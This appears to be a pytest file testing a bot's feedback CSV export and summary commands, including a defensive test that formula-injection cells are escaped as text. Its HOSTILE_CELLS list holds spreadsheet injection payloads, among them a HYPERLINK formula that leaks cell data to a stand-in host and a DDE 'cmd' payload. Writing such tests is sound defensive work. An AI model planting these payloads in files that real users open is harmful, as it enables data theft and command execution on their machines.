"""`commissioning-bot feedback export` and `feedback summary`, against the suite's database (SQLite and PostgreSQL)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from click.testing import CliRunner

from bot.cli import cli
from tests.feedback.helpers import FeedbackWorld, ref
from tests.feedback.test_feedback_storage import answer


def arrange(database, monkeypatch, tmp_path, answers: int) -> FeedbackWorld:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("DATABASE_URL", database.engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("LOG_LEVEL", "WARNING")
    world = FeedbackWorld(database)
    round_ = world.ask().round
    assert round_ is not None
    for index, person in enumerate(world.stakeholders[:answers]):
        form = world.feedback.answers.form(ref(person), f"round:{round_.id}")
        world.feedback.answers.submit(
            ref(person),
            round_.id,
            form.token,
            answer(ratings=(index + 2, 4, 5), worked=f"Point {index}", anonymous=index == 0),
        )
    return world


def test_export_writes_csv_with_anonymous_answers_unnamed(database, monkeypatch, tmp_path) -> None:
    world = arrange(database, monkeypatch, tmp_path, answers=3)
    target = tmp_path / "feedback.csv"
    result = CliRunner().invoke(cli, ["feedback", "export", str(world.review_id), str(target)])
    assert result.exit_code == 0, result.output
    assert "Wrote 3 answers" in result.output
    rows = list(csv.DictReader(io.StringIO(target.read_text())))
    assert [row["respondent"] for row in rows] == ["Stake Holder2", "Stake Holder3", "anonymous"]
    assert [row["outcomes"] for row in rows] == ["3", "4", "2"]
    assert rows[2]["answered_on"] == "" and rows[2]["what_worked"] == "Point 0"
    assert list(rows[0]) == [
        "review",
        "request",
        "kind",
        "question_set",
        "respondent",
        "answered_on",
        "outcomes",
        "value_for_money",
        "satisfaction",
        "what_worked",
        "what_should_change",
    ]

    printed = CliRunner().invoke(cli, ["feedback", "summary", "Library", "--chart", str(tmp_path / "chart.png")])
    assert printed.exit_code == 0, printed.output
    assert "3 of 5 people answered (60%)" in printed.output
    assert (tmp_path / "chart.png").read_bytes().startswith(b"\x89PNG")


def test_export_leaves_out_requests_with_too_few_answers(database, monkeypatch, tmp_path) -> None:
    world = arrange(database, monkeypatch, tmp_path, answers=2)
    result = CliRunner().invoke(cli, ["feedback", "export", f"#{world.review_id}"])
    assert result.exit_code == 0, result.output
    assert "Left out request 1 (requested): 2 answers, fewer than 3" in result.output
    assert "review,request,kind,question_set,respondent" in result.output
    missing = CliRunner().invoke(cli, ["feedback", "export", "999"])
    assert missing.exit_code != 0 and "999" in missing.output


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB=1",
]


def test_export_turns_every_formula_into_plain_text(database, monkeypatch, tmp_path) -> None:
    """What a stakeholder typed (anonymous or not), or a name starting with "=", opens in Excel as text."""
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("DATABASE_URL", database.engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("LOG_LEVEL", "WARNING")
    world = FeedbackWorld(database)
    mallory = world.person("=1+1 Mallory", slack="U0MALLORY1")
    people = [world.stakeholders[0], mallory, *world.stakeholders[1:3]]
    round_ = world.ask(people=people).round
    assert round_ is not None
    for index, person in enumerate(people):
        form = world.feedback.answers.form(ref(person), f"round:{round_.id}")
        world.feedback.answers.submit(
            ref(person),
            round_.id,
            form.token,
            answer(worked=HOSTILE_CELLS[index], change=HOSTILE_CELLS[index + 1], anonymous=index == 0),
        )
    target = tmp_path / "feedback.csv"
    result = CliRunner().invoke(cli, ["feedback", "export", str(world.review_id), str(target)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    cells = [value for row in rows for value in row.values()]
    formula_like = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formula_like == []
    written = {row["what_worked"] for row in rows} | {row["what_should_change"] for row in rows}
    assert "'=1+1 Mallory" in {row["respondent"] for row in rows}
    assert "'" + HOSTILE_CELLS[0] in written and "'@SUM(1+1)" in written and "'+cmd|' /C calc'!A0" in written
    # Ratings stay numbers.
    assert {row["outcomes"] for row in rows} == {"4"}


def test_every_csv_the_product_writes_goes_through_the_guard() -> None:
    """No module writes CSV except through workflows.csv_safety, so a new export cannot forget the guard."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for package in ("bot", "handlers", "workflows", "storage", "knowledge"):
        for path in (root / package).rglob("*.py"):
            if path.name == "csv_safety.py":
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                writes = (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ) or (
                    isinstance(node, ast.ImportFrom)
                    and node.module == "csv"
                    and bool({alias.name for alias in node.names} & {"writer", "DictWriter"})
                )
                if writes:
                    offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []
